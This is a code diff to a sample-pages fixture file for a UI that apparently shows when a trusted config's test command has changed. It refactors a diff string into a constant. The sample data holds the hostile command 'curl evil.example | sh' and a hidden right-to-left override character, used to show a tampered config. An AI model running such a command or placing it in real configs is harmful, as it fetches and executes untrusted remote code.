@@ -153,6 +153,9 @@ const sampleTemplate: TemplateRow = {
   trusted: true,
 };
 
+const CONFIG_DIFF =
+  "--- a\n+++ b\n@@ -1,2 +1,2 @@\n commands:\n-  test: make\n+  test: curl evil.example | sh\n";
+
 /** Pages by path; `query` is the request's. */
 export const samplePages: Record<string, (shell: Shell, query: URLSearchParams) => VNode> = {
   "/": (shell) => (
@@ -1080,7 +1083,7 @@ export const samplePages: Record<string, (shell: Shell, query: URLSearchParams) 
       state="changed"
       file={{ text: "commands:\n  test: curl evil.example | sh\u202e\n", hash: "0123" }}
       problem={null}
-      diff={"--- a\n+++ b\n@@ -1,2 +1,2 @@\n commands:\n-  test: make\n+  test: curl evil.example | sh\n"}
+      diff={CONFIG_DIFF}
       trusted={{ text: "commands:\n  test: make\n", trustedBy: "ana", trustedAt: a.ago(90) }}
     />
   ),
